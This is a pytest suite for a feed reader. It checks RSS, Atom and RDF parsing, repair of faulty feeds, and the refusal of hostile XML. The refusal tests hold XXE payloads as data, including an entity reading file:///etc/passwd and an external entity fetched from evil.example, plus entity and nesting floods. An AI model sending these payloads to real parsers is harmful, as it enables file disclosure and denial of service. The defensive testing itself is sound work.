"""Reading feeds: what real ones get wrong is mended, what is hostile is refused (checklist T10)."""

import time
from datetime import UTC, datetime

import pytest

from sluicegate.core.errors import InvalidInput, MalformedSource, UnsafeSource
from sluicegate.core.feed_documents import ENTRIES_MAX, read_feed
from sluicegate.core.feed_items import FeedEntry, keyed


def rss(inner: str, head: str = "") -> bytes:
    return f"{head}<rss version='2.0'><channel><title>T</title>{inner}</channel></rss>".encode()


def test_rss_with_every_field():
    (entry,) = read_feed(
        rss(
            """<item xmlns:torznab="http://torznab.com/schemas/2015/feed"><title> A  B </title><guid>g</guid>
            <link>https://site.example/a</link><pubDate>Tue, 02 Jun 2026 10:00:00 +0200</pubDate>
            <description>&lt;b&gt;x&lt;/b&gt;</description>
            <enclosure url="https://site.example/a.torrent" length="123" type="application/x-bittorrent"/>
            <torznab:attr name="infohash" value="AB"/><torznab:attr name="magneturl" value="magnet:?m"/></item>"""
        )
    ).entries
    assert entry.title.split() == ["A", "B"]
    assert (entry.guid, entry.link, entry.enclosure) == (
        "g",
        "https://site.example/a",
        "https://site.example/a.torrent",
    )
    assert (entry.magnet, entry.info_hash, entry.size) == ("magnet:?m", "AB", 123)
    assert entry.published_at == datetime(2026, 6, 2, 8, tzinfo=UTC)


def test_atom_and_rdf_are_read_alike():
    atom = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><entry><id>urn:1</id><title>A</title>
        <link href="https://x.example/a"/><link rel="enclosure" href="https://x.example/a.torrent"/>
        <updated>2026-01-02T03:04:05Z</updated></entry></feed>"""
    rdf = b"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
        xmlns:dc="http://purl.org/dc/elements/1.1/"><item><title>A</title><link>https://x.example/a</link>
        <dc:date>2026-01-02T03:04:05Z</dc:date></item></rdf:RDF>"""
    for raw in (atom, rdf):
        (entry,) = read_feed(raw).entries
        assert (entry.title, entry.link) == ("A", "https://x.example/a")
        assert entry.published_at == datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert read_feed(atom).entries[0].file_url == "https://x.example/a.torrent"


@pytest.mark.parametrize(
    ("raw", "title"),
    [
        (rss("<item><title>A & B</title></item>"), "A & B"),
        (rss("<item><title>caf&eacute;&nbsp;x</title></item>"), "café\u00a0x"),
        (rss("<item><title>a\x08b</title></item>"), "ab"),
        (rss("<item><title>é</title></item>", '<?xml version="1.0" encoding="utf-8"?>'), "é"),
        ('<?xml version="1.0" encoding="windows-1252"?><rss><item><title>é</title></item></rss>'.encode("cp1252"), "é"),
        ("<rss><item><title>é</title></item></rss>".encode("utf-16"), "é"),
        (b"\xef\xbb\xbf\n <rss><item><title>x</title></item></rss>", "x"),
        (rss("<item><title>x</title></item>", "<!DOCTYPE rss PUBLIC '-//N//R//EN' 'http://x.example/r.dtd'>"), "x"),
    ],
)  # fmt: skip
def test_what_real_feeds_get_wrong_is_mended(raw: bytes, title: str):
    found = read_feed(raw).entries[0].title
    assert found.replace("\u00a0", " ") == title.replace("\u00a0", " ")


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        (b"", MalformedSource),
        (b" \n", MalformedSource),
        (b"<!doctype html><html></html>", MalformedSource),
        (b"<html><body>", MalformedSource),
        (b'{"items": []}', MalformedSource),
        (b"%PDF-1.7", MalformedSource),
        (b"<opml/>", MalformedSource),
        (b"<rss><channel><item><title>cut", MalformedSource),
        (b"<rss/><rss/>", MalformedSource),
        (b'<?xml version="1.0" encoding="klingon"?><rss/>', MalformedSource),
        (b'<!DOCTYPE r [<!ENTITY a "x">]><rss>&a;</rss>', UnsafeSource),
        (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', UnsafeSource),
        (b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><rss/>', UnsafeSource),
        (b"<rss>" + b"<a>" * 5_000, UnsafeSource),
    ],
)
def test_what_is_no_feed_or_hostile_is_refused(raw: bytes, kind: type[InvalidInput]):
    with pytest.raises(kind) as caught:
        read_feed(raw)
    assert caught.value.detail.endswith(".")


@pytest.mark.parametrize(
    "raw",
    [
        rss("<item><title>" + "&" * 4_000_000 + "</title></item>"),
        rss("<item><title>" + "&a" * 2_000_000 + "</title></item>"),
        rss("<item><description>" + "a&lt;" * 800_000 + "</description></item>"),
        rss("<item><guid>" + "x" * 4_000_000 + "</guid></item>"),
        rss("<item " + " ".join(f"a{n}='1'" for n in range(200_000)) + "/>"),
        rss("<item/>" * 500_000),
    ],
    ids=["ampersands", "entities", "text", "guid", "attributes", "items"],
)
def test_the_largest_feeds_take_no_unbounded_time_or_memory(raw: bytes):
    """Linear work: a bound that only something quadratic would miss, even on a machine that is busy."""
    began = time.process_time()
    document = read_feed(raw)
    assert time.process_time() - began < 30
    assert len(document.entries) <= ENTRIES_MAX
    assert all(len(entry.text) <= 16_000 and len(entry.guid) <= 4_000 for entry in document.entries)


def test_more_entries_than_are_taken_are_cut_and_told():
    document = read_feed(rss("<item><title>x</title></item>" * (ENTRIES_MAX + 5)))
    assert (len(document.entries), document.cut) == (ENTRIES_MAX, True)


@pytest.mark.parametrize("text", ["", "yesterday", "99999-01-01", "Tue, 99 Jun 2026 10:00:00 +0000", "0", "2026-13-01"])
def test_a_date_that_is_none_is_no_date(text: str):
    (entry,) = read_feed(rss(f"<item><title>x</title><pubDate>{text}</pubDate></item>")).entries
    assert entry.published_at is None


def test_where_the_magnet_is_looked_for_in_order():
    m = [f"magnet:?xt=urn:btih:{str(n) * 40}" for n in range(4)]
    whole = {"enclosure": m[0], "link": m[1], "magnet": m[2], "text": f'<a href="{m[3]}&amp;dn=x">'}
    assert FeedEntry(**whole).found_magnet == m[0]
    assert FeedEntry(**whole | {"enclosure": "https://x.example/"}).found_magnet == m[1]
    assert FeedEntry(**whole | {"enclosure": "", "link": "https://x.example/"}).found_magnet == m[2]
    assert FeedEntry(text=whole["text"]).found_magnet == f"{m[3]}&dn=x"
    assert FeedEntry(text="nothing").found_magnet == ""


def test_identity_is_guid_then_link_then_content():
    assert len(keyed([FeedEntry(guid="g", link="a"), FeedEntry(guid="g", link="a")])) == 1
    assert len(keyed([FeedEntry(guid="g", link="a"), FeedEntry(guid="g", link="b")])) == 2
    assert len(keyed([FeedEntry(link="a"), FeedEntry(link="b"), FeedEntry(magnet="m")])) == 3
